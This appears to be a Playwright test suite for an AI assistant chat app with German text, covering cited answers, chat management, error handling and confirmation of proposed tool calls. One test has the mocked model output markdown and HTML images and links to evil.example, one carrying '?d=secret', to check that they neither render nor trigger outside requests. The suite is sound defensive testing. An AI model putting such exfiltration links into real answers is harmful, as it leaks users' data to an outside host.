import { expectAccessible } from '../support/accessible.ts'
import { answersOf, askIn, editIn, expect, searchableAt, storeSource, test } from '../support/assistant.ts'
import { photograph, toastOf } from '../support/kontor.ts'
import { litIn } from '../support/preview/preview-of.ts'
import { textsOf } from '../support/texts.ts'
import { beyond, sizesOf, sum } from '../support/measuring/weight.ts'

// one model, which does as the journey before has told it
test.describe.configure({ mode: 'default' })

const contract =
  'Rahmenvertrag Kaffee\n\nDer Umschlag einer Tonne Kaffee kostet 24,80 Euro. Die Kündigungsfrist beträgt drei Monate zum Jahresende.'

test('an answer is written while one looks, goes on after a reload, and leads to the words of its source', async ({
  page,
  api,
  say,
  assistant: { model },
}) => {
  await storeSource(api, 'Rahmenvertrag Kaffee.txt', contract)
  await model.behave({
    kind: 'held',
    pieces: ['Die **Kündigungsfrist** beträgt drei Monate [1]. ', 'Der Umschlag kostet 25,90 Euro [1]'],
  })
  await page.goto('/assistant/')
  const named = { name: 'hafen-7b', host: new URL(model.url).host }
  await expect(page.getByText(say('chat.model', named))).toBeVisible()
  await expectAccessible(page)
  const field = page.locator('[data-ask] textarea')
  await field.fill('Welche Kündigungsfrist gilt für Kaffee?')
  await field.press('Shift+Enter')
  await field.pressSequentially('Und der Preis?')
  await expect(page).toHaveURL('/assistant/')
  await field.press('Enter')
  await expect(page).toHaveURL(/\/assistant\/\d+$/u)
  const answer = answersOf(page).last()
  await expect(answer.locator('strong')).toHaveText('Kündigungsfrist')
  await expect(page.getByRole('button', { name: say('chat.ask.stop') })).toBeVisible()
  const spoken = page.locator('[data-spoken] p')
  await expect(spoken.first()).toHaveText('Die Kündigungsfrist beträgt drei Monate .')

  await page.reload()
  await expect(answer).toContainText('Der Umschlag kostet 25,90 Euro')
  await expect(page.getByRole('button', { name: say('chat.ask.stop') })).toBeVisible()
  await model.release()
  await expect(page.getByRole('button', { name: say('chat.ask.send') })).toBeVisible()
  await expect(answer).toContainText(say('chat.source.doubt', { missing: '25,90' }))
  await expectAccessible(page)

  await answer.locator('[data-sources]').click()
  const panel = page.getByRole('complementary', { name: say('chat.sources') })
  await expect(panel).toContainText('Rahmenvertrag Kaffee.txt')
  await expect(panel).toContainText('drei Monate zum Jahresende')
  await expectAccessible(page)
  await photograph(page, 'assistant-sources')
  await page.keyboard.press('Escape')
  await expect(panel).toBeHidden()

  await answer.locator('a.marker').first().click()
  await expect(page).toHaveURL(/preview=1/u)
  await expect.poll(() => litIn(page)).toBeGreaterThan(0)
  await page.goBack()
  await expect(answer).toContainText('Der Umschlag kostet')
})

test('what a model is told to write leads nowhere', async ({ page, assistant: { model, url } }) => {
  const outside: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(url)) outside.push(request.url())
  })
  const tricks = [
    '![x](https://evil.example/p.png?d=secret) [hier](https://evil.example/a) <img src="https://evil.example/b">',
    '\n\n[1]: https://evil.example/c\n\n[klick][1] https://evil.example/d\n\n| a |\n|---|\n| ![y](https://evil.example/e) |',
  ]
  await model.behave({ kind: 'answer', pieces: tricks })
  await page.goto('/assistant/')
  await askIn(page, 'Xylophon')
  const answer = answersOf(page).last()
  await expect(answer.locator('table')).toBeVisible()
  await expect(answer.locator('a, img')).toHaveCount(0)
  await expect(answer.getByRole('button', { name: 'https://evil.example/a' })).toBeVisible()
  expect(outside).toEqual([])
})

test('a question is asked in other words, and the earlier ones stay reachable; an answer is stopped and asked for anew', async ({
  page,
  say,
  assistant: { model },
}) => {
  await model.behave({ kind: 'answer', pieces: ['Erste Antwort'] })
  await page.goto('/assistant/')
  await askIn(page, 'Erste Frage')
  await expect(answersOf(page)).toContainText('Erste Antwort')
  await model.behave({ kind: 'answer', pieces: ['Zweite Antwort'] })
  const edited = await editIn(page, say)
  await edited.fill('Zweite Frage')
  await edited.press('Enter')
  await expect(answersOf(page)).toContainText('Zweite Antwort')
  const wordings = page.getByRole('group', { name: say('chat.message.wordings.question') })
  await expect(wordings).toContainText('2/2')
  await wordings.getByRole('button', { name: say('chat.message.wordings.before') }).click()
  await expect(answersOf(page)).toContainText('Erste Antwort')
  await expect(wordings).toContainText('1/2')

  await model.behave({ kind: 'held', pieces: ['Angefangen'] })
  await page.getByRole('button', { name: say('chat.message.retry') }).click()
  await expect(answersOf(page)).toContainText('Angefangen')
  await page.getByRole('button', { name: say('chat.ask.stop') }).click()
  await expect(answersOf(page)).toContainText(say('chat.answer.stopped'))
  await expect(answersOf(page)).toContainText('Angefangen')
  await expect(page.getByRole('group', { name: say('chat.message.wordings.answer') })).toContainText('2/2')
  await model.release()
})

test.describe('in German', () => {
  test.use({ language: 'de', theme: 'dark', viewport: { width: 320, height: 640 } })
  const say = textsOf('de')

  test('failures of the model are said in words, what was asked stays, and a busy one is waited for', async ({
    page,
    assistant: { model },
  }) => {
    await model.behave({ kind: 'status', status: 401 })
    await page.goto('/assistant/')
    await askIn(page, 'Wer öffnet das Tor?')
    await expect(answersOf(page)).toContainText(say('problem.modelKeyRefused.message'))
    await expect(page.getByText('sk-secret')).toHaveCount(0)
    await expect(page.locator('[data-message="user"]')).toContainText('Wer öffnet das Tor?')
    await expectAccessible(page)
    await photograph(page, 'assistant-failed')
    await page.reload()
    await expect(answersOf(page)).toContainText(say('problem.modelKeyRefused.message'))

    await model.behave({ kind: 'status', status: 429, retryAfter: '50' })
    await page
      .getByRole('button', { name: say('chat.message.retry') })
      .first()
      .click()
    const seconds = async (): Promise<number> =>
      Number(/in (\d+) Sekunden noch einmal gefragt/u.exec((await answersOf(page).textContent()) ?? '')?.[1])
    await expect.poll(seconds).toBeGreaterThan(0)
    const before = await seconds()
    await expect.poll(seconds).toBeLessThan(before)
    await page.getByRole('button', { name: say('chat.ask.stop') }).click()
    await expect(answersOf(page)).toContainText(say('chat.answer.stopped'))
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)
    expect(overflow).toBeLessThanOrEqual(0)
  })
})

test('an answer is covered once its file is no source any more', async ({
  page,
  api,
  say,
  assistant: { model },
}) => {
  const names = await storeSource(
    api,
    'Liegeplan.txt',
    'Am Liegeplatz Sieben liegt die Zaunkönigin bis Mittwoch.',
  )
  await model.behave({ kind: 'answer', pieces: ['Die Zaunkönigin liegt bis Mittwoch [1].'] })
  await page.goto('/assistant/')
  await askIn(page, 'Wie lange liegt die Zaunkönigin am Liegeplatz Sieben?')
  const answer = answersOf(page).last()
  await expect(answer.locator('a.marker')).toBeVisible()
  await api.send('DELETE', searchableAt(names))
  await page.evaluate(() => window.dispatchEvent(new Event('focus')))
  await expect(answer).toHaveText(new RegExp(say('chat.answer.covered')))
  await expect(page.getByText('Mittwoch')).toHaveCount(0)
  await expectAccessible(page)
  await page.reload()
  await expect(answer).toContainText(say('chat.answer.covered'))
})

test('chats are found, named, pinned, saved, deleted and brought back', async ({
  page,
  say,
  faults,
  assistant: { model },
}) => {
  // the page of a chat that was just deleted may ask for it once more before it is left
  faults.expect(/status of 404 .*\/api\/chat\/\d+/u)
  await model.behave({ kind: 'answer', pieces: ['Gern'] })
  const [first, second] = [`Lotse ${Date.now()}`, `Schlepper ${Date.now()}`]
  for (const question of [first, second]) {
    await page.goto('/assistant/')
    await askIn(page, question)
    await expect(answersOf(page)).toContainText('Gern')
  }
  const list = page.getByRole('region', { name: say('chat.list'), exact: true })
  const rowOf = (title: string) => list.getByRole('listitem').filter({ hasText: title })
  const choose = async (title: string, item: string): Promise<void> => {
    await rowOf(title).getByRole('button').click()
    await page.getByRole('menuitem', { name: item }).click()
  }
  await choose(first, say('chat.pin'))
  await expect(list.getByRole('listitem').first()).toContainText(first)
  await choose(first, say('chat.rename'))
  await page.getByRole('textbox', { name: say('chat.rename.label') }).fill(`${first} neu`)
  await page.keyboard.press('Enter')
  await expect(rowOf(`${first} neu`)).toBeVisible()
  const download = page.waitForEvent('download')
  await choose(second, say('chat.export'))
  expect((await download).suggestedFilename()).toMatch(/\.md$/u)
  await list.getByRole('searchbox').fill(second)
  await expect(list.getByRole('listitem')).toHaveCount(1)
  await list.getByRole('searchbox').fill('')
  await expect(rowOf(`${first} neu`)).toBeVisible()
  await choose(second, say('chat.delete'))
  await expect(page).toHaveURL('/assistant/')
  await expect(rowOf(second)).toHaveCount(0)
  await expect(toastOf(page, say('chat.deleted', { title: second }))).toBeVisible()
  await page.keyboard.press('Control+z')
  await expect(rowOf(second)).toBeVisible()
})

test('what the assistant needs beyond Home is at most 60 kB, and what lays out answers comes with the first one', async ({
  page,
  say,
  assistant: { model },
}) => {
  await model.behave({ kind: 'answer', pieces: ['**Gern**'] })
  await page.goto('/home/')
  const block = page.getByRole('region', { name: say('home.assistant') })
  await expect(block.getByRole('textbox')).toBeVisible()
  const home = await sizesOf(page, 'home')
  await page.getByRole('link', { name: say('shell.assistant'), exact: true }).click()
  await expect(page.locator('[data-ask] textarea')).toBeVisible()
  const opened = beyond(await sizesOf(page), home)
  expect(sum(opened), [...opened].join('\n')).toBeLessThanOrEqual(60_000)
  expect(sum(opened)).toBeGreaterThan(10_000)
  // what lays out answers, and what draws formulas
  const [layers, drawers] = [/\/(?:answer-sheet|safe-markdown)-/u, /\/draw-maths-/u]
  const fetched = async (words: RegExp) =>
    [...(await sizesOf(page)).keys()].filter((name) => words.test(name))
  expect([...(await fetched(layers)), ...(await fetched(drawers))]).toEqual([])

  await page.getByRole('link', { name: say('shell.home'), exact: true }).click()
  const question = `Wer lotst die Brise ${Date.now()}?`
  await block.getByRole('textbox').fill(question)
  await block.getByRole('textbox').press('Enter')
  await expect(page).toHaveURL(/\/assistant\/\d+$/u)
  await expect(answersOf(page).locator('strong')).toHaveText('Gern')
  expect(await fetched(layers)).not.toEqual([])
  expect(await fetched(drawers)).toEqual([])
  await model.behave({ kind: 'answer', pieces: ['Es gilt $x^2$'] })
  await askIn(page, 'Als Formel?')
  await expect(answersOf(page).last().locator('math')).toBeVisible()
  expect(await fetched(drawers)).not.toEqual([])
  await page.getByRole('link', { name: say('shell.home'), exact: true }).click()
  await expect(block.getByRole('listitem').first()).toHaveText(question)
})

test('what a model proposes happens once it is confirmed, and not when it is declined', async ({
  page,
  api,
  say,
  assistant: { model },
}) => {
  const [folder = ''] = await storeSource(api, 'Vorlage.txt', 'Die Vorlage ist leer.')
  const propose = (title: string) =>
    model.behave({
      kind: 'script',
      steps: [
        { calls: [{ name: 'createFile', input: { name: title, text: 'Guten Tag' } }] },
        { says: 'Ist erledigt.' },
      ],
    })
  await propose('Brief.md')
  await page.goto('/assistant/')
  await askIn(page, 'Schreiben Sie einen Brief')
  const card = page.locator('[data-tool="createFile"]').last()
  await expect(card.getByRole('button', { name: say('chat.tool.confirm') })).toBeVisible()
  await expectAccessible(page)
  await page.reload()
  await card.getByRole('button', { name: say('chat.tool.chooseFolder') }).click()
  await page.getByRole('dialog').getByRole('searchbox').fill(folder)
  await page
    .getByRole('dialog')
    .getByRole('button', { name: new RegExp(`^${folder}`, 'u') })
    .click()
  await card.getByRole('button', { name: say('chat.tool.confirm') }).click()
  await expect(card).toContainText(say('chat.tool.state.done'))
  await expect(answersOf(page).last()).toContainText('Ist erledigt.')
  expect((await api.listFolder([folder])).files.map(({ name }) => name)).toContain('Brief.md')

  await propose('Zweiter Brief.md')
  await askIn(page, 'Noch einen')
  await card.getByRole('button', { name: say('chat.tool.decline') }).click()
  await expect(card).toContainText(say('chat.tool.state.declined'))
  expect((await api.listFolder([folder])).files.map(({ name }) => name)).not.toContain('Zweiter Brief.md')
})
